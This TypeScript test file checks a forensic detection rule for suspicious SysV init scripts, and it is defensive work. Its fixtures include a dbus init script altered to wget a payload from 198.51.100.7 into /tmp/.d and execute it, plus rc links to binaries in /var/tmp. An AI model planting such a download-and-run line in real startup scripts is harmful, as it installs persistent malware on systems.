import initScripts from '../../collect/persistence/sysv-init';
import { testRule } from '../../../test/helpers/rule-tester';
import { collectFrom, DBUS_INIT, debianSysv, OLD, RECENT, xorDdos } from '../../../test/helpers/persistence';
import rule from './initd-suspicious-script';

const sysv = (build: Parameters<typeof collectFrom>[0]) => collectFrom(build, [initScripts]).facts;

testRule(rule, {
  valid: [
    { name: 'packaged dbus, procps and hwclock scripts with their links and READMEs', facts: sysv((r) => debianSysv(r)) },
    { name: 'the XOR.DDoS script is left to initd-ddos-pattern', facts: sysv((r) => xorDdos(debianSysv(r))) },
  ],
  invalid: [
    {
      name: 'hand-installed agent under /opt: info inventory',
      facts: sysv((r) => {
        debianSysv(r)
          .write('/etc/init.d/zabbix-agent', '#!/bin/sh\ncase "$1" in\nstart) /opt/zabbix/sbin/zabbix_agentd ;;\nesac\n', {
            mode: 0o755,
            mtime: OLD,
          })
          .write('/opt/zabbix/sbin/zabbix_agentd', 'ELF', { mode: 0o755 });
        r.symlink('/etc/rc2.d/S90zabbix-agent', '../init.d/zabbix-agent');
      }),
      expect: [{ severity: 'info', path: '/etc/init.d/zabbix-agent', title: /runlevels 2\)/, evidence: /rc2\.d\/S90zabbix-agent/ }],
    },
    {
      name: 'packaged dbus script edited to fetch and run a payload',
      facts: sysv((r) =>
        debianSysv(r).write(
          '/etc/init.d/dbus',
          DBUS_INIT.replace('set -e\n', 'set -e\n(wget -q -O /tmp/.d http://198.51.100.7/d && chmod +x /tmp/.d && /tmp/.d) &\n'),
          { mode: 0o755, mtime: RECENT },
        ),
      ),
      expect: [
        { severity: 'critical', path: '/etc/init.d/dbus', title: /downloads a file then makes it executable/ },
        { severity: 'high', path: '/etc/init.d/dbus', title: /temporary or hidden directory: \/tmp\/\.d/ },
      ],
    },
    {
      name: 'unpackaged script starting a deleted binary, and an rc link straight to a binary in /var/tmp',
      facts: sysv((r) => {
        debianSysv(r).write('/etc/init.d/network-helper', '#!/bin/sh\n/usr/sbin/nethelperd -d\n', { mode: 0o755, mtime: RECENT });
        r.write('/var/tmp/kx', 'ELF', { mode: 0o755 }).symlink('/etc/rc3.d/S99kx', '/var/tmp/kx');
      }),
      expect: [
        { severity: 'high', path: '/etc/rc3.d/S99kx', title: /does not point into \/etc\/init\.d/, evidence: /resolves to \/var\/tmp\/kx/ },
        { severity: 'medium', path: '/etc/init.d/network-helper', title: /does not exist: \/usr\/sbin\/nethelperd/ },
        { severity: 'low', path: '/etc/init.d/network-helper', title: /not installed by any package/ },
      ],
    },
  ],
});
